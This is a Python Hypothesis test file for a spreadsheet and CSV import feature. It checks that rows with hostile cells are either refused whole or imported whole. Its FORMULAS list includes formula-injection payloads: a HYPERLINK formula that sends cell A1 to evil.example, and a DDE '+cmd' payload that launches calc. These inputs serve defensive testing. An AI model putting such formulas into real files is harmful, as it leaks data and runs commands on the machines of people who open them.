"""Hostile cells (formulas, huge text, NUL and other controls, text direction marks,
numbers of every size, NaN, wrong types) in a workbook or a CSV file: the import says
what is wrong with a refusal of its own or imports every row, never anything between."""

from __future__ import annotations

from datetime import date, datetime, time
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from coopdesk.documents.spreadsheets.importing import preview_import, write_import
from coopdesk.documents.spreadsheets.mapping import propose_mapping
from coopdesk.documents.spreadsheets.planning import ImportPlan
from coopdesk.documents.spreadsheets.reading import read_sheet
from coopdesk.domain.errors import CoopDeskError
from coopdesk.domain.schema import LOCALITY, PERSON
from coopdesk.paths import DataDir
from coopdesk.services import records
from coopdesk.store.database import Store
from tests.documents.spreadsheet_files import checkpoint, csv_file, digest, xlsx

HEADERS = ["Име", "Пол", "Година на раждане", "Населено място", "Телефон", "Съгласие",
           "Дата на съгласие", "Уязвими групи", "Бележки"]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Мария")',
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=",
    "#REF!",
]
GOOD = {
    "Име": st.sampled_from(["Мария Асенова", "Иван Колев", "Maria Asenova", None]),
    "Пол": st.sampled_from(["ж", "м", "F", "жена", "непосочен", None]),
    "Година на раждане": st.one_of(st.integers(1930, 2020), st.just("1985 г."), st.none()),
    "Населено място": st.sampled_from(["с. Бел Камен", "Котел", "гр. Сливен", None]),
    "Телефон": st.sampled_from(["0888 123 456", "+359 87 555 1234", None]),
    "Съгласие": st.sampled_from(["да", "x", "Да"]),
    "Дата на съгласие": st.one_of(
        st.just("14.10.2025 г."), st.just(45944), st.dates(date(2000, 1, 1), date(2025, 12, 31))
    ),
    "Уязвими групи": st.sampled_from(["роми", "роми, деца", "хора с увреждания", None]),
    "Бележки": st.sampled_from(["", "търси работа", "Документи: лична карта;\nздравна книжка"]),
}
HOSTILE = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
    st.text(
        st.sampled_from("\x00\x01\x1b\x7f\x85\u202e\u2066\u2028\t\r\n"), min_size=1, max_size=5
    ),
    st.sampled_from(
        ["Я" * 100_000, "1" * 5_000, " " * 10_000 + "14.10.2025", "14.10.2025" + " " * 10_000]
    ),
    st.integers(-(10**20), 10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.datetimes(datetime(1900, 3, 1), datetime(2100, 12, 31)),
    st.times(),
    st.none(),
)


@st.composite
def rows(draw: st.DrawFn) -> list[list[Any]]:
    found = []
    count = draw(st.integers(1, 5))
    hostile = draw(st.sets(st.integers(0, count - 1), max_size=2))  # rows given a bad cell
    for number in range(count):
        row = [draw(GOOD[header]) for header in HEADERS]
        if row[0] is not None:  # one person a row: a name repeated is refused (tested apart)
            row[0] = f"{row[0]} {'АБВГД'[number]}"
        if number in hostile:
            for index in draw(st.sets(st.integers(0, len(HEADERS) - 1), min_size=1, max_size=3)):
                row[index] = draw(HOSTILE)
        found.append(row)
    return found


def _for_workbook(value: Any) -> Any:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
        return str(value)
    return value


def _for_csv(value: Any) -> Any:
    if isinstance(value, datetime | date | time):
        return value.isoformat()
    return value


def _state(store: Store) -> tuple[int, int]:
    return records.count_records(store, PERSON), records.count_records(store, LOCALITY)


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(table=rows(), as_csv=st.booleans(), create=st.booleans())
def test_hostile_cells_are_refused_whole_or_imported_whole(
    store: Store,
    data_dir: DataDir,
    tmp_path: Path,
    table: list[list[Any]],
    as_csv: bool,
    create: bool,
) -> None:
    path = tmp_path / ("hostile.csv" if as_csv else "hostile.xlsx")
    try:
        if as_csv:
            csv_file(path, [HEADERS, *([_for_csv(v) for v in row] for row in table)], "utf-8", ";")
        else:
            xlsx(path, [HEADERS, *([_for_workbook(v) for v in row] for row in table)])
    except (ValueError, TypeError, UnicodeEncodeError):
        assume(False)  # a file the writing library itself cannot make
    if not records.count_records(store, LOCALITY):
        for name in ("Бел Камен", "Котел"):
            records.create(store, LOCALITY, {"name": name, "kind": "village"})
    checkpoint(store)
    before, counts = digest(store), _state(store)
    try:
        sheet = read_sheet(path)
        mapping = propose_mapping("person", sheet.columns)
        plan = ImportPlan("person", mapping, create_missing=create)
        preview = preview_import(store, sheet, plan)
        summary = write_import(store, sheet, plan, data_dir.backups)
    except CoopDeskError as refused:
        event(f"refused: {type(refused).__name__}")
        assert str(refused).strip() and "\n" not in str(refused).strip("\n")
        assert digest(store) == before and _state(store) == counts
        return
    event("imported")
    assert preview.can_write
    assert summary.created + summary.updated + summary.skipped + preview.blank == len(sheet.rows)
    persons, localities = _state(store)
    assert persons == counts[0] + summary.created
    assert localities == counts[1] + summary.created_missing.get("locality", 0)
